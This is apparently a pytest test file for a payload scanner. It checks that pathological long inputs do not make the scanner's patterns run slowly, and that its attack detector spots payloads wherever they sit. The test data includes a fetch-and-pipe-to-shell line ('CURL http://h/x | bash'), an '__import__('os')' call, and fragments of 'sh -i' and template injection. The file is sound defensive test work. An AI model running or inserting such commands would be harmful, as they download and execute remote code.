"""Texts that are long and mean to make their reader slow: time grows with them and no faster."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keepstone.scan.text.payload import attack_in
from tests.scan.judging import judged

# Each would take minutes where a pattern tried every way to match it.
MEAN = {
    "spaces": b" " * 200_000 + b"x",
    "lines": b"\n" * 300_000,
    "braces": b"{{" * 50_000,
    "blocks": b"{% " * 50_000 + b"__class__",
    "dots": b"a." * 50_000,
    "versions": b"a==1," * 30_000 + b"!",
    "semicolons": b"a;" * 50_000,
    "tags": b"<a on" * 30_000,
    "yaml tags": b"!<" * 50_000,
    "anchors": b"&a " * 50_000,
    "types": b"<!DOCTYPE " * 20_000,
    "keys": b"a: 1\n" * 50_000,
    "fetches": b"curl " * 40_000,
    "shells": b"sh -i" * 20_000,
    "classes": b'{"Regex": "' + b"[\\\\]" * 20_000 + b'"}',
    "groups": b'{"Regex": "' + b"(a+" * 20_000 + b'"}',
    "signs": b"x=" + b"-" * 20_000 + b"1",
    "parentheses": b"(" * 5_000,
    "markup": b'{"nbformat":4,"cells":[{"cell_type":"markdown","source":"'
    + b"<a " * 40_000
    + b'"}]}',
    "names": b'{"nbformat":4,"cells":[{"cell_type":"code","source":"' + b"a, " * 40_000 + b'"}]}',
}


@pytest.mark.parametrize("kind", MEAN)
@pytest.mark.parametrize("name", ["x", "requirements.txt", "x.yaml", "x.py"])
def test_no_text_keeps_its_reader_busy(kind: str, name: str) -> None:
    start = time.process_time()
    found = judged(MEAN[kind], name)
    # A second or two on a machine that is busy; a square would be minutes.
    assert time.process_time() - start < 10
    assert not any("failed" in item.message for item in found)


@given(st.integers(0, 3000), st.integers(0, 3000), st.sampled_from(["", "İ", "eval "]))
def test_an_attack_is_found_wherever_it_stands(before: int, after: int, start: str) -> None:
    text = f"{start}{'x ' * before}CURL http://h/x | bash{' y' * after}"
    assert attack_in(text) is not None
    text = f"{start}{'x ' * before}__import__('os'){' y' * after}"
    assert attack_in(text) is not None
